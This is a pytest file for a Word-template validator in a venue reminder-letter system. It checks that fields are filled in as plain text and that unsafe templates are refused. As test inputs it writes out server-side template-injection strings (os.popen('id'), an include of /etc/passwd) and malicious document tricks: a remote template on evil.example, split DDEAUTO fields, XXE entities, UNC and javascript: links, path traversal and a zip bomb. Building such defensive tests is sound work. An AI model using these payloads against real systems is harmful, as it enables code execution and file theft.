"""An office's own layout: what it may hold, how it is filled in, and every way to make it run or fetch something."""

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.shared import Pt

from data.queries.reminder_letter import Reminded
from documents.office_templates import checked, filled, text_of
from documents.own_layouts import of_venue
from documents.reminder_letter import reminder_letter
from documents.word_packages import MOST_BYTES, UnusableTemplate

RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
BODY = "word/document.xml"
BOX = (
    b"<w:p><w:r><w:t>Trong khung: </w:t></w:r><w:r><w:txbxContent><w:p><w:r><w:t>{{ten_dia_diem}}</w:t></w:r></w:p>"
    b"</w:txbxContent></w:r></w:p>"
)


def template(*lines: str) -> bytes:
    """A document as Word keeps it, with the needed fields and ``lines``."""
    made = docx.Document()
    made.add_paragraph("Kính gửi: {{ten_dia_diem}}, {{ dia_chi }}")
    for line in lines:
        made.add_paragraph(line)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The document with a part changed, or one more."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            new.writestr(entry, change(old.read(entry)) if entry == name else old.read(entry))
        if name not in old.namelist():
            new.writestr(name, change(b""))
    return out.getvalue()


def put(before: bytes, more: bytes) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(before, more + before, 1)


def refusal(content: bytes) -> str:
    with pytest.raises(UnusableTemplate) as refused:
        checked(content)
    return str(refused.value)


def test_fields_are_filled_in_as_plain_text_however_word_has_split_them() -> None:
    made = docx.Document()
    paragraph = made.add_paragraph("Địa điểm ")
    for piece, is_bold in (
        ("{{ten_", True),
        ("dia", False),
        ("_diem}}", True),
        (" ở {{dia_chi}}; lại {{ten_dia_diem}}.", False),
    ):
        run = paragraph.add_run(piece)
        run.bold, run.font.size = is_bold, Pt(13)
    made.add_table(1, 1).cell(0, 0).text = "{{ma_dia_diem}} {{ly_do}}"
    made.sections[0].header.paragraphs[0].text = "{{Phuong}}"
    out = io.BytesIO()
    made.save(out)
    bound = b'<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x"/></w:sdtPr><w:sdtContent>%s</w:sdtContent></w:sdt>' % BOX
    layout = with_part(out.getvalue(), BODY, put(b"<w:sectPr", bound))
    values = {
        "ten_dia_diem": "Phở \u202e<b>&amp; {{dia_chi}} \x07",
        "dia_chi": "1 Lê Lợi",
        "ma_dia_diem": "HD1",
        "phuong": "Mộ Lao",
    }
    content = filled(layout, values)
    read = docx.Document(io.BytesIO(content))
    assert read.paragraphs[0].text == "Địa điểm Phở <b>&amp; {{dia_chi}}   ở 1 Lê Lợi; lại Phở <b>&amp; {{dia_chi}}  ."
    assert read.paragraphs[0].runs[1].bold
    assert read.tables[0].cell(0, 0).text == "HD1 "
    assert read.sections[0].header.paragraphs[0].text == "Mộ Lao"
    assert content == filled(layout, values)
    assert text_of(content)[-2:] == ["Trong khung: ", "Phở <b>&amp; {{dia_chi}}  "], "no value is looked into"
    assert b"dataBinding" not in zipfile.ZipFile(io.BytesIO(content)).read(BODY), "Word would undo what was filled in"


def test_it_opens_in_libreoffice(word_to_pdf: Callable[[bytes, str], bytes]) -> None:
    assert word_to_pdf(filled(template("{{noi_dung}}"), {"ten_dia_diem": "Quán"}), "docx").startswith(b"%PDF")


@pytest.mark.parametrize(
    "words",
    [
        "{{ ten_dia_diem.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{% include '/etc/passwd' %}",
        "{% for x in y %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{# x #}",
        "{{ ten_dia_diem|upper }}",
        "{{ten_dia_diem",
        "{{r ten_dia_diem }}",
        "{ma_dia_diem}",
        "{{{ma_dia_diem}}}",
        "\uff5b\uff5bma_dia_diem\uff5d\uff5d",
    ],
)
def test_an_expression_is_refused_and_named(words: str) -> None:
    assert words[:12] in refusal(template(words)) or words[:2] in refusal(template(words))


def test_a_split_expression_is_refused_too() -> None:
    made = docx.Document(io.BytesIO(template()))
    paragraph = made.add_paragraph()
    for piece in ("{", "{ x.__cl", "ass__ }", "}"):
        paragraph.add_run(piece)
    out = io.BytesIO()
    made.save(out)
    assert "__class__" in refusal(out.getvalue())


EXTERNAL = (
    b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="%s" TargetMode="External"/>'
)
INTERNAL = b'<Relationship Id="rX" Type="http://schemas.microsoft.com/office/2006/relationships/%s" Target="%s"/>'
INSTRUCTION = b"<w:r><w:instrText>%s</w:instrText></w:r>"
HEADER = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s</w:hdr>'
CODE = b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/></w:p>'
ATTACKS = {
    "a remote template": (
        RELS,
        put(b"</Relationships>", EXTERNAL % (b"attachedTemplate", b"http://evil.example/t.dotm")),
    ),
    "a linked picture": (RELS, put(b"</Relationships>", EXTERNAL % (b"image", b"file:///etc/passwd"))),
    "a link": (RELS, put(b"</Relationships>", EXTERNAL % (b"hyperlink", b"http://evil.example"))),
    "macros": ("word/vbaProject.bin", lambda _: b"\xd0\xcf\x11\xe0"),
    "an embedded object": ("word/embeddings/oleObject1.bin", lambda _: b"x"),
    "ActiveX": ("word/activeX/activeX1.xml", lambda _: b"<x/>"),
    "the type of a document with macros": (
        TYPES,
        lambda part: part.replace(b"document.main+xml", b"document.macroEnabled.main+xml"),
    ),
    "a template's type": (
        TYPES,
        lambda part: part.replace(b"wordprocessingml.document.main", b"wordprocessingml.template.main"),
    ),
    "entities": (
        BODY,
        lambda part: part.replace(
            b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1
        ),
    ),
    "another alphabet": (BODY, lambda part: part.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
    "an included text": (BODY, put(b"</w:body>", b'<w:p><w:fldSimple w:instr=" INCLUDETEXT c:/x "/></w:p>')),
    "DDE in pieces": (
        BODY,
        put(
            b"</w:body>",
            b"<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:/cmd </w:instrText></w:r></w:p>",
        ),
    ),
    "a foreign part": (BODY, put(b"</w:body>", b'<w:altChunk xmlns:r="r" r:id="x"/>')),
    "a broken document": (BODY, lambda part: part[:-20]),
    "a part with a field code under another name": ("word/header9.XML", lambda _: HEADER % CODE),
    "a part of another kind": ("word/header9.bin", lambda _: HEADER % CODE),
    "a picture that is a program": ("word/media/image1.svg", lambda _: b"<svg><script/></svg>"),
    "the same name in capitals": ("WORD/document.xml", lambda _: b"<x/>"),
    "a way out of the folder": ("word/../../x.xml", lambda _: b"<x/>"),
    "links under another name": ("word/_rels/header9.xml.RELS", lambda _: b"<x>%s</x>" % (EXTERNAL % (b"image", b"x"))),
    "entities in UTF-7": (
        "word/x.xml",
        lambda _: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4APA-x/>',
    ),
    "entities in UTF-16": (
        "word/x.xml",
        lambda _: '<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE x><x/>'.encode("utf-16-le"),
    ),
    "another namespace": (BODY, put(b"</w:body>", b'<s:altChunk xmlns:s="http://purl.oclc.org/ooxml/main"/>')),
    "a code that was struck out": (
        BODY,
        put(b"</w:body>", b"<w:p><w:del><w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r></w:del></w:p>"),
    ),
    "a code beside the paragraphs": (BODY, put(b"</w:body>", b"<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>")),
    "a code around a box": (
        BODY,
        put(
            b"</w:body>", b"<w:p>%s<w:p>%s</w:p>%s</w:p>" % tuple(INSTRUCTION % x for x in (b"DDE", b"PAGE", b"AUTO x"))
        ),
    ),
    "a linked object": (BODY, put(b"</w:body>", b'<o:OLEObject xmlns:o="urn:o" Type="Link"/>')),
    "macros by another name": (RELS, put(b"</Relationships>", INTERNAL % (b"vbaProject", b"media/x.png"))),
    "an add-in": ("_rels/.rels", put(b"</Relationships>", INTERNAL % (b"webextensiontaskpanes", b"word/x.xml"))),
    "a script behind a link": (RELS, put(b"</Relationships>", INTERNAL % (b"hyperlink", b"javascript:alert(1)"))),
    "a picture of another machine": (RELS, put(b"</Relationships>", INTERNAL % (b"image", b"\\\\evil\\x.png"))),
    "another main part": ("_rels/.rels", lambda part: part.replace(BODY.encode(), b"word/styles.xml")),
    "a field that is drawn": (BODY, put(b"</w:body>", b'<v:textpath xmlns:v="urn:v" string="{{phuong}}"/>')),
    "a field that was struck out": (
        BODY,
        put(b"</w:body>", b"<w:p><w:r><w:delText>{{phuong}}</w:delText></w:r></w:p>"),
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_runs_or_fetches_is_refused(attack: str) -> None:
    name, change = ATTACKS[attack]
    sentence = refusal(with_part(template(), name, change))
    assert sentence.endswith(".")
    with pytest.raises(UnusableTemplate):
        filled(with_part(template(), name, change), {})


def test_what_is_large_or_grows_is_refused_before_it_is_read() -> None:
    assert "2 MB" in refusal(b"PK" + b"x" * MOST_BYTES)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr(TYPES, b"<x/>")
        bomb.writestr(BODY, b" " * (100 << 20))
    assert "quá lớn" in refusal(out.getvalue())
    lying = bytearray(out.getvalue())
    # the directory says that the part is small
    place = lying.rfind(b"PK\x01\x02")
    lying[place + 24 : place + 28] = (10).to_bytes(4, "little")
    assert refusal(bytes(lying))
    assert "{{{{" in refusal(template("{{" * 1_000_000))
    many = b"<w:p %s/>" % b" ".join(b'a%d="1"' % number for number in range(100_000))
    assert "quá lớn" in refusal(with_part(template(), BODY, put(b"</w:body>", many)))
    assert "500" in refusal(template("{{phuong}}" * 501))
    squashed = bytearray(template())
    place = squashed.find(b"word/styles.xml")
    squashed[place + 40 : place + 80] = bytes(range(40))
    for other in (b"", b"%PDF-1.7", b"PK\x03\x04", b"\xd0\xcf\x11\xe0" * 99, bytes(squashed)):
        assert "Word" in refusal(other)


def test_unknown_and_wanting_fields_are_named() -> None:
    assert re.search("chu_ho.*ten_dia_diem", refusal(template("{{chu_ho}}")))
    made = docx.Document()
    made.add_paragraph("{{ten_dia_diem}}")
    out = io.BytesIO()
    made.save(out)
    assert refusal(out.getvalue()) == "Mẫu thiếu trường: dia_chi."
    assert checked(template("{{ma_dia_diem}}")) == ("ten_dia_diem", "ma_dia_diem", "dia_chi")
    assert text_of(filled(template(), {"ten_dia_diem": "Quán", "dia_chi": "1 Lê Lợi"})) == ["Kính gửi: Quán, 1 Lê Lợi"]


def test_no_name_turns_a_letter_around() -> None:
    day = dt.date(2021, 11, 30)
    venue = Reminded(
        "HD1", f"Phở \u202egnur\x07{' dài' * 99}", "1 \u2067Lê Lợi", "Mộ Lao", "violating", False, (day,), 7, day, False
    )
    for letter in (reminder_letter(venue, "docx"), of_venue(template(), venue)):
        said = " ".join(text_of(letter)).replace("\u200b", "")
        assert "Phở gnur" in said
        assert "1 Lê Lợi" in said
